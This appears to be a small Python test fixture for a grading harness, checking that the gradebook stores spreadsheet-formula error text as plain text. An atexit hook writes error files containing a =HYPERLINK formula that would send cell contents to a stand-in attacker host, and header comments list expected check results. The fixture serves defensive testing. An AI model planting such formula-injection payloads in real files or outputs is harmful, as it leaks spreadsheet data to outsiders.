# what: leaves an error text that is a spreadsheet formula (=HYPERLINK ...) in its artifacts at exit: the gradebook must write it as text
# answer: copy-tilelang
# solved: copy-cuda
# expect: copy-tilelang=failed copy-tilelang-again=failed copy-cuda=passed copy-performance=pending
import atexit
import os


def _plant():
    for check in ("copy-tilelang", "copy-tilelang-again"):
        os.makedirs(f"artifacts/{check}", exist_ok=True)
        with open(f"artifacts/{check}/error.txt", "w") as f:
            f.write('=HYPERLINK("http://attacker.example/?leak="&A1,"click")')


atexit.register(_plant)


def copy_program(dtype, gpu):
    raise ValueError("no program")
